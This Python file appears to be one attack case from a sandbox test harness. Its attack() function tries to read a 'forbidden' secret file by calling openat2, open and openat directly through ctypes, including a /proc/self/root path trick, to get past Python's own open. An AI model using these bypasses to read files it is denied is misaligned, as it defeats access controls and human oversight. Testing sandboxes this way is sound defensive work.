"""Opens forbidden files by openat2 and by raw open, openat and creat, past Python's own open."""

import ctypes
import os

LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.syscall.restype = ctypes.c_long


def c(number, *args):
    """Make one raw system call; raise OSError where it fails."""
    words = [ctypes.c_long(word) if isinstance(word, int) else word for word in args]
    result = LIBC.syscall(ctypes.c_long(number), *words)
    if result == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def attack():
    path = TARGETS["readable_secret"].encode()
    how = (ctypes.c_uint64 * 3)(os.O_RDONLY, 0, 0)
    ways = (
        lambda: c(437, -100, path, ctypes.byref(how), 24),
        lambda: c(2, path, os.O_RDONLY, 0),
        lambda: c(257, -100, path, os.O_RDONLY, 0),
        lambda: c(257, -100, b"/proc/self/root" + path, os.O_RDONLY, 0),
    )
    for number, way in enumerate(ways):
        try:
            descriptor = way()
        except OSError:
            continue
        data = os.read(descriptor, 100)
        os.close(descriptor)
        if data:
            return f"way {number} read {len(data)} bytes"
